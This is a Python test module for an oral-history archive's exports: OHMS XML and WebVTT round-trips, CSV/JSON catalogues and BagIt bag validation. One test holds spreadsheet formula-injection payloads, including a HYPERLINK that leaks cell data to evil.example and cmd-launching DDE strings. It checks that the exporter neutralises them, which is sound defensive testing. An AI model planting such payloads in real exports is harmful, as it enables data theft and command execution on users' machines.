"""Exports read back: OHMS XML and WebVTT ingested with the real pipeline, exported
and parsed again by our own importers give the same segments and chapters; the
catalogue as CSV and JSON parses back whole; a BagIt bag validates, and fails to
once a file in it is touched."""

from __future__ import annotations

import csv
import io
import json
import shutil
from dataclasses import replace
from datetime import date
from pathlib import Path

import bagit
import pytest

from archive.access import Asker
from archive.exports.bag import write_bag
from archive.exports.csv_json import (
    CSV_COLUMNS,
    catalogue_csv,
    catalogue_entry,
    catalogue_json,
    neutralised,
)
from archive.exports.folders import export_transcripts
from archive.exports.ohms_writer import as_ohms_xml
from archive.exports.report import ExportRefused
from archive.exports.selection import Scope, exported_testimonies
from archive.exports.transcript_files import webvtt_files
from archive.testimonies.queries import get_testimony
from archive.testimonies.records import (
    ChapterRecord,
    CollectionRecord,
    RecordingRecord,
    SegmentRecord,
    SpeakerRef,
    TestimonyRecord,
)
from ingest.pipeline import run_ingest
from ingest.transcripts.ohms import parse_ohms
from ingest.transcripts.webvtt import parse_webvtt
from tests.collections import SPEAKERS, make_collection, testimony_entry, write_wav
from tests.conftest import fresh_settings, initialised

TODAY = date(2026, 11, 21)

OHMS_LEGACY = """<?xml version="1.0" encoding="UTF-8"?>
<ROOT xmlns="https://www.weareavp.com/nunncenter/ohms"><record id="1" dt="2020-01-01">
<version>5.4</version><title>Leaving Tripoli</title><accession>OH-1</accession>
<subject>Tripoli</subject><interviewee>Miriam Toledano</interviewee>
<sync>1:|3(2)|6(4)</sync>
<index>
<point><time>0</time><title>Childhood &amp; school</title>
<synopsis>The hara; "the Italian school".</synopsis><keywords>hara;school;Tripoli</keywords></point>
<point><time>75</time><title>Leaving by sea</title>
<synopsis>By boat &lt;i&gt;to Naples&lt;/i&gt;, then Haifa.</synopsis><keywords>Naples;boat</keywords></point>
</index>
<transcript>INTERVIEWER: Where did you grow up?
MIRIAM: In the hara of Tripoli, near the Italian school. We spoke Arabic at home &amp; Italian in class.
INTERVIEWER: And the riots? Tell me about November 1945.
MIRIAM: My uncle hid us in the cellar for three days and three nights.
INTERVIEWER: When did you leave?
MIRIAM: In 1949, on a boat that was &amp;lt;i&amp;gt;Italian&amp;lt;/i&amp;gt;, to Naples and then to Haifa.
</transcript></record></ROOT>
"""
VTT = (
    "WEBVTT\n\n00:00:01.000 --> 00:00:04.500\n<v Zohra>We left Casablanca at night &amp; in silence.\n\n"
    "00:00:05.000 --> 00:00:08.000\n<v Interviewer>How old were you? Were you <i>afraid</i>?\n\n"
    "00:00:08.000 --> 00:00:12.250\n<v Zohra>Seven. My father said: a &lt; b, always.\n\n"
    "00:00:13.000 --> 00:00:20.000\nNo voice here, only text.\n"
)
VTT_FR = (
    "WEBVTT\n\n00:00:01.000 --> 00:00:04.500\n<v Zohra>Nous avons quitté Casablanca la nuit.\n\n"
    "00:00:05.000 --> 00:00:08.000\n<v Interviewer>Quel âge aviez-vous ?\n\n"
    "00:00:08.000 --> 00:00:12.250\n<v Zohra>Sept ans.\n\n"
    "00:00:13.000 --> 00:00:20.000\nSans voix.\n"
)
TRICKY_TITLE = 'Casablanca, "at night"'
TRICKY_SUMMARY = 'First line, with a comma.\nSecond: <b>bold</b> & "quoted" — עברית'
TRANSCRIPTS = {
    "t/OH-1.xml": OHMS_LEGACY,
    "t/VT-1.vtt": VTT,
    "t/VT-1.fr.vtt": VTT_FR,
    "t/MP-1a.txt": "[00:00:00] ANNA: Part one begins.\n[00:00:05] ANNA: Still part one.\n",
    "t/MP-1b.txt": "[00:00:00] ANNA: Part two begins.\n[00:00:04] ANNA: The end.\n",
    "t/plain.txt": "[00:00:00] EZRA: A few words.\n",
}


def _entries() -> list[dict]:
    def entry(accession, transcript, stem, **extra):
        return testimony_entry(accession, transcript, f"a/{stem}.wav", **extra)

    return [
        entry("OH-1", "t/OH-1.xml", "OH-1"),
        entry(
            "VT-1",
            "t/VT-1.vtt",
            "VT-1",
            title=TRICKY_TITLE,
            summary=TRICKY_SUMMARY,
            place="Paris, France",
            translations={"fr": "t/VT-1.fr.vtt"},
        ),
        entry(
            "MP-1",
            ["t/MP-1a.txt", "t/MP-1b.txt"],
            "MP-1a",
            chapters=[{"start": "00:00:03", "part": 2, "title": "Second tape"}],
        )
        | {"audio": ["a/MP-1a.wav", "a/MP-1b.wav"]},
        entry("HID-1", "t/plain.txt", "HID-1", access="restricted"),
        entry("EMB-1", "t/plain.txt", "EMB-1", access="embargoed", embargo_until="2999-01-01"),
        entry("EMB-2", "t/plain.txt", "EMB-2", access="embargoed", embargo_until="2000-01-01"),
        entry("GONE-1", "t/plain.txt", "GONE-1"),
    ]


def _collection(
    folder: Path, slug: str, entries: list[dict], seconds: dict[str, float], speakers=SPEAKERS
) -> Path:
    for entry in entries:
        for audio in entry["audio"]:
            write_wav(folder / audio, seconds.get(entry["accession"], 10), rate=1000)
    manifest = {
        "collection": {"id": slug, "title": slug.title(), "publisher": "Test Archive, Inc."},
        "speakers": speakers,
        "testimonies": entries,
    }
    return make_collection(folder, manifest, TRANSCRIPTS)


@pytest.fixture(scope="module")
def archive(tmp_path_factory):
    """Two collections ingested with the real pipeline; GONE-1's audio then deleted."""
    root = tmp_path_factory.mktemp("exports")
    settings = fresh_settings(root / "data")
    sessions = initialised(settings)
    main = _collection(root / "main", "export-voices", _entries(), {"OH-1": 200, "VT-1": 20})
    # The same person, named from the other collection by an explicit reference.
    borrowed = {"accession": "OT-1", "speakers": ["export-voices/miriam-toledano"]}
    other = _collection(root / "other", "other-voices", [_entries()[-1] | borrowed], {}, [])
    for folder in (main, other):
        report = run_ingest(folder, sessions=sessions, index_dir=settings.index_dir)
        assert not report.errors, [str(p) for p in report.errors]
    (main / "a/GONE-1.wav").unlink()
    return sessions, main


def _records(sessions, include_hidden=False, **scope):
    asker = Asker.staff_member(TODAY) if include_hidden else Asker.public(TODAY)
    with sessions() as session:
        return list(exported_testimonies(session, Scope(asker, **scope)))


def _record(sessions, accession) -> TestimonyRecord:
    with sessions() as session:
        return get_testimony(session, accession, asker=Asker.staff_member(TODAY))


def _spoken(record, part=1):
    return [s for s in record.segments if s.part == part and s.language is None]


# --- which testimonies -------------------------------------------------------


def test_public_only_unless_all_and_one_collection_on_request(archive):
    sessions, _ = archive
    public = ["EMB-2", "GONE-1", "MP-1", "OH-1", "OT-1", "VT-1"]
    assert [r.accession for r in _records(sessions)] == public
    everything = [r.accession for r in _records(sessions, include_hidden=True)]
    assert everything == sorted([*public, "EMB-1", "HID-1"])
    assert [r.accession for r in _records(sessions, collection="other-voices")] == ["OT-1"]
    with sessions() as session, pytest.raises(ExportRefused) as refused:
        exported_testimonies(session, Scope(Asker.public(TODAY), collection="nope"))
    assert str(refused.value) == (
        "no collection 'nope'; the catalogue has: export-voices, other-voices"
    )


# --- OHMS ------------------------------------------------------------------


def test_ohms_in_and_out_keeps_segments_index_points_and_keywords(archive):
    sessions, main = archive
    original = parse_ohms((main / "t/OH-1.xml").read_bytes(), "OH-1.xml")
    assert len(original.segments) >= 6 and len(original.chapters) == 2  # the test means something
    record = _record(sessions, "OH-1")
    exported = parse_ohms(as_ohms_xml(record, exported=TODAY), "out.xml")
    assert exported.warnings == ()
    assert [(s.speaker, s.text) for s in exported.segments] == [
        (s.speaker, s.text) for s in original.segments
    ]
    assert [s.start for s in exported.segments] == pytest.approx(
        [s.start for s in original.segments], abs=0.001
    )
    assert "<i>Italian</i>" in exported.segments[-1].text  # escaped markup stays text
    assert [(c.start, c.title, c.synopsis, c.keywords) for c in exported.chapters] == [
        (c.start, c.title, c.synopsis, c.keywords) for c in original.chapters
    ]
    assert exported.chapters[0].keywords == ("hara", "school", "Tripoli")
    assert exported.header["accession"] == "OH-1"
    assert exported.header["interviewee"] == "Miriam Toledano"
    assert exported.header["keywords"] == "Tripoli riots (1945, 1948)"  # themes as subjects


def test_exported_ohms_ingested_again_gives_the_same_testimony(archive, tmp_path):
    sessions, main = archive
    record = _record(sessions, "OH-1")
    again = tmp_path / "again"
    (again / "t").mkdir(parents=True)
    (again / "t/OH-1.xml").write_bytes(as_ohms_xml(record, exported=TODAY))
    (again / "a").mkdir()
    shutil.copy(main / "a/OH-1.wav", again / "a/OH-1.wav")
    entry = testimony_entry("OH-1", "t/OH-1.xml", "a/OH-1.wav")
    manifest = {"collection": {"id": "again", "title": "Again"}, "speakers": SPEAKERS}
    make_collection(again, manifest | {"testimonies": [entry]}, transcripts={})
    settings = fresh_settings(tmp_path / "data")
    second = initialised(settings)
    report = run_ingest(again, sessions=second, index_dir=settings.index_dir)
    assert report.problems == []
    reingested = _record(second, "OH-1")
    assert reingested.segments == record.segments
    assert reingested.chapters == record.chapters


def test_ohms_without_voice_after_a_voiced_cue_keeps_no_speaker(archive):
    sessions, _ = archive
    record = _record(sessions, "VT-1")
    exported = parse_ohms(as_ohms_xml(record, exported=TODAY), "out.xml")
    assert [s.speaker for s in exported.segments] == ["Zohra", "Interviewer", "Zohra", None]
    assert [s.text for s in exported.segments] == [s.text for s in _spoken(record)]


def test_ohms_one_file_per_part_with_its_own_chapters(archive, tmp_path):
    sessions, _ = archive
    records = [r for r in _records(sessions) if r.accession == "MP-1"]
    report = export_transcripts(records, tmp_path / "ohms", ("ohms",), Scope(Asker.public(TODAY)))
    assert sorted(p.name for p in (tmp_path / "ohms").iterdir()) == [
        "MP-1.part1.ohms.xml",
        "MP-1.part2.ohms.xml",
    ]
    assert report.files == 2 and report.clean
    second = parse_ohms((tmp_path / "ohms/MP-1.part2.ohms.xml").read_bytes(), "part2")
    assert [s.text for s in second.segments] == ["Part two begins.", "The end."]
    assert [(c.start, c.title) for c in second.chapters] == [(3.0, "Second tape")]
    assert second.header["media"] == "MP-1b.wav"


def _made_up(**fields) -> TestimonyRecord:
    collection = CollectionRecord("c", "C & co", None, "P <org>", "CC0", False, None)
    recording = RecordingRecord(part=1, path="/x/a b.wav", readable=True, problem=None, mime_type="audio/wav", format="wave", duration=12.5, size=9, sha256="ab")  # fmt: skip
    record = TestimonyRecord(
        accession="MSS/2019/01", title="T", collection=collection,
        speakers=(SpeakerRef("s", "Nour", ()),), interviewers=(), recorded="1990-05",
        place=None, languages=("en", "he"), summary=None, countries=(), year_from=None,
        year_to=None, themes=(), access="public", embargo_until=None, rights=None,
        recordings=(recording,), segments=(), chapters=(), source_checksum=None,
    )  # fmt: skip
    return replace(record, **fields)


def test_ohms_escapes_markup_entities_cdata_ends_and_characters_xml_cannot_hold():
    nasty = 'Tom & Jerry <b>not bold</b> ]]> --> "q" &amp; \x0b done'
    said = [
        SegmentRecord(1, 0, 0.0, 2.0, "DR. A&B <x>", nasty),
        SegmentRecord(1, 1, 2.5, None, None, "line one\nline two\n\nafter a blank line"),
    ]
    chapter = ChapterRecord(1, 2.5, nasty, nasty, ("a & b", "<c>"))
    record = _made_up(title=nasty, segments=tuple(said), chapters=(chapter,))
    parsed = parse_ohms(as_ohms_xml(record, exported=TODAY), "nasty.xml")
    clean = 'Tom & Jerry <b>not bold</b> ]]> --> "q" &amp; done'
    assert [(s.speaker, s.text) for s in parsed.segments] == [
        ("DR. A&B <x>", clean),
        (None, "line one line two after a blank line"),
    ]
    assert parsed.header["title"] == clean
    assert parsed.header["repository"] == "P <org>"
    assert parsed.header["date"] == "1990-05"
    assert parsed.header["language"] == "English; Hebrew"
    assert [(c.title, c.synopsis, c.keywords) for c in parsed.chapters] == [
        (clean, clean, ("a & b", "<c>"))
    ]


# --- WebVTT ----------------------------------------------------------------


def test_webvtt_in_and_out_gives_the_same_cues(archive):
    sessions, main = archive
    files = {f.name: f.content for f in webvtt_files(_record(sessions, "VT-1"))}
    assert sorted(files) == ["VT-1.part1.fr.vtt", "VT-1.part1.vtt"]
    for name, source in (("VT-1.part1.vtt", "t/VT-1.vtt"), ("VT-1.part1.fr.vtt", "t/VT-1.fr.vtt")):
        original = parse_webvtt((main / source).read_bytes(), source).segments
        exported = parse_webvtt(files[name], name)
        assert exported.warnings == ()
        assert [(s.start, s.end, s.speaker, s.text) for s in exported.segments] == [
            (s.start, s.end, s.speaker, s.text) for s in original
        ]
    assert "a < b" in parse_webvtt(files["VT-1.part1.vtt"], "x").segments[2].text


def test_webvtt_folder_has_a_file_per_part_and_translation(archive, tmp_path):
    sessions, _ = archive
    report = export_transcripts(
        _records(sessions), tmp_path / "vtt", ("webvtt",), Scope(Asker.public(TODAY))
    )
    names = sorted(p.name for p in (tmp_path / "vtt").iterdir())
    assert names == [
        "EMB-2.part1.vtt",
        "GONE-1.part1.vtt",
        "MP-1.part1.vtt",
        "MP-1.part2.vtt",
        "OH-1.part1.vtt",
        "OT-1.part1.vtt",
        "VT-1.part1.fr.vtt",
        "VT-1.part1.vtt",
    ]
    assert (report.testimonies, report.hidden, report.files) == (6, 0, 8)


def test_an_export_folder_must_be_new_or_empty(tmp_path):
    (tmp_path / "used").mkdir()
    (tmp_path / "used/keep.txt").write_text("mine", encoding="utf-8")
    with pytest.raises(ExportRefused, match="is not empty"):
        export_transcripts([], tmp_path / "used", ("webvtt",), Scope(Asker.public(TODAY)))
    assert [p.name for p in (tmp_path / "used").iterdir()] == ["keep.txt"]
    export_transcripts([], tmp_path / "new/deeper", ("webvtt",), Scope(Asker.public(TODAY)))
    assert (tmp_path / "new/deeper").is_dir()


# --- CSV and JSON ------------------------------------------------------------


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_round_trip_keeps_commas_quotes_newlines_and_markup(archive):
    sessions, _ = archive
    records = _records(sessions)
    rows = _csv_rows(catalogue_csv([catalogue_entry(r, TODAY) for r in records]))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [row["accession"] for row in rows] == [r.accession for r in records]
    vt = next(row for row in rows if row["accession"] == "VT-1")
    assert (vt["title"], vt["summary"], vt["place"]) == (
        TRICKY_TITLE,
        TRICKY_SUMMARY,
        "Paris, France",
    )
    assert vt["translations"] == "fr" and vt["segment_count"] == "4"
    assert vt["speakers"] == "Miriam Toledano" and vt["speaker_ids"] == "miriam-toledano"
    assert (vt["countries"], vt["country_names"]) == ("LY", "Libya")
    assert vt["rights"] == "CC0" and vt["visible_to_public"] == "yes"
    mp = next(row for row in rows if row["accession"] == "MP-1")
    assert mp["recording_parts"] == "1; 2" and mp["recording_files"] == "MP-1a.wav; MP-1b.wav"
    assert mp["recording_durations"] == "10.0; 10.0" and mp["recording_mime_types"] == "audio/wav; audio/wav"  # fmt: skip
    assert mp["chapter_count"] == "1" and len(mp["recording_sha256"].split("; ")[1]) == 64


# A title and fields a hostile manifest could hold: a spreadsheet opening the
# CSV would run each as a formula (a link out, a command, a sum).
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Read more")',
    "summary": "+cmd|' /C calc'!A0",
    "place": "@SUM(1+1)*cmd|' /C calc'!A0",
    "rights": "\t=1+1",
}


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(archive):
    sessions, _ = archive
    record = replace(_records(sessions)[0], interviewers=("-2+3", "Dov"), **FORMULAS)
    entries = [catalogue_entry(record, TODAY)]
    row = _csv_rows(catalogue_csv(entries))[0]
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    assert row["interviewers"] == "'-2+3; Dov"
    assert row["accession"] == record.accession  # ordinary cells are untouched
    raw = _csv_rows(catalogue_csv(entries, raw_cells=True))[0]
    assert {column: raw[column] for column in FORMULAS} == FORMULAS
    assert raw["interviewers"] == "-2+3; Dov"
    assert (
        json.loads(catalogue_json(entries, Scope(Asker.public(TODAY))))["testimonies"][0]["title"]
        == (
            FORMULAS["title"]  # JSON is data, not a sheet: exact
        )
    )


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("-", "'-"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),  # a number cannot be a formula
        ("-3", "-3"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralised(cell, expected):
    assert neutralised(cell) == expected


def test_csv_and_json_with_all_include_hidden_and_say_so(archive):
    sessions, _ = archive
    scope = Scope(Asker.staff_member(TODAY))
    entries = [catalogue_entry(r, TODAY) for r in _records(sessions, include_hidden=True)]
    hidden = {
        row["accession"]: row["visible_to_public"] for row in _csv_rows(catalogue_csv(entries))
    }
    assert (hidden["HID-1"], hidden["EMB-1"], hidden["EMB-2"]) == ("no", "no", "yes")
    document = json.loads(catalogue_json(entries, scope))
    assert document["access"] == "all" and "restricted and embargoed" in document["note"]
    assert document["count"] == 8


def test_json_nests_chapters_and_describes_recordings(archive):
    sessions, _ = archive
    entries = [catalogue_entry(r, TODAY) for r in _records(sessions)]
    document = json.loads(catalogue_json(entries, Scope(Asker.public(TODAY))))
    assert document["access"] == "public" and document["exported"] == "2026-11-21"
    oh = next(t for t in document["testimonies"] if t["accession"] == "OH-1")
    assert oh["chapters"][1] == {
        "part": 1,
        "start": 75.0,
        "title": "Leaving by sea",
        "synopsis": "By boat to Naples, then Haifa.",
        "keywords": ["Naples", "boat"],
    }
    assert oh["chapter_count"] == 2 and oh["segment_count"] >= 6
    recording = oh["recordings"][0]
    assert recording | {"sha256": None} == {
        "part": 1,
        "file": "OH-1.wav",
        "duration": 200.0,
        "mime_type": "audio/wav",
        "size": 400044,
        "sha256": None,
    }
    assert oh["collection"] == {"slug": "export-voices", "title": "Export-Voices"}
    assert oh["themes"] == [{"id": "tripoli-riots", "label": "Tripoli riots (1945, 1948)"}]


# --- BagIt -----------------------------------------------------------------


@pytest.fixture(scope="module")
def bag(archive, tmp_path_factory):
    sessions, _ = archive
    target = tmp_path_factory.mktemp("bag") / "export-voices"
    with sessions() as session:
        records = exported_testimonies(
            session, Scope(Asker.public(TODAY), collection="export-voices")
        )
        report = write_bag(records, target, Scope(Asker.public(TODAY), collection="export-voices"))
    return target, report


def test_the_bag_validates_and_holds_catalogue_transcripts_and_audio_copies(archive, bag):
    _, main = archive
    target, _report = bag
    assert bagit.Bag(str(target)).validate()
    data = target / "data"
    audio = data / "audio/OH-1.part1.wav"
    assert audio.is_file() and not audio.is_symlink()
    assert audio.read_bytes() == (main / "a/OH-1.wav").read_bytes()
    assert (data / "transcripts/MP-1.part2.ohms.xml").is_file()
    assert (data / "transcripts/VT-1.part1.fr.vtt").is_file()
    assert (data / "transcripts/VT-1.fr.txt").is_file()
    catalogue = json.loads((data / "catalogue.json").read_text(encoding="utf-8"))
    assert [t["accession"] for t in catalogue["testimonies"]] == ["EMB-2", "GONE-1", "MP-1", "OH-1", "VT-1"]  # fmt: skip
    mp = next(t for t in catalogue["testimonies"] if t["accession"] == "MP-1")
    assert mp["files"]["audio"] == ["audio/MP-1.part1.wav", "audio/MP-1.part2.wav"]
    assert len(_csv_rows((data / "catalogue.csv").read_text(encoding="utf-8"))) == 5
    assert {p.name for p in target.iterdir()} >= {
        "bagit.txt", "bag-info.txt", "manifest-sha256.txt", "manifest-sha512.txt",
        "tagmanifest-sha256.txt", "tagmanifest-sha512.txt",
    }  # fmt: skip


def test_bag_info_says_who_what_when_and_how_much(bag):
    target, report = bag
    info = bagit.Bag(str(target)).info
    assert (target / "bagit.txt").read_text(encoding="utf-8").startswith("BagIt-Version: 1.0\n")
    assert info["Source-Organization"] == "Test Archive, Inc."
    assert info["Bagging-Date"] == "2026-11-21"
    assert info["External-Identifier"] == "export-voices"
    assert info["Payload-Oxum"] == f"{report.bytes}.{report.files}"
    assert info["Bag-Size"].endswith(" KB")
    assert "5 testimonies" in info["External-Description"]
    assert "public testimonies only" in info["External-Description"]


def test_a_missing_audio_file_is_reported_and_the_rest_goes_in(bag):
    target, report = bag
    assert [(p.item, Path(p.file).name) for p in report.problems] == [("GONE-1", "GONE-1.wav")]
    assert report.problems[0].message == "the audio file of part 1 is missing; left out of the bag"
    assert (target / "data/transcripts/GONE-1.part1.vtt").is_file()
    assert not (target / "data/audio/GONE-1.part1.wav").exists()


def test_a_tampered_bag_no_longer_validates(bag, tmp_path):
    target, _ = bag
    copy = shutil.copytree(target, tmp_path / "copy")
    text = copy / "data/transcripts/OH-1.txt"
    text.write_text(text.read_text(encoding="utf-8") + "an added line\n", encoding="utf-8")
    with pytest.raises(bagit.BagValidationError):
        bagit.Bag(str(copy)).validate()
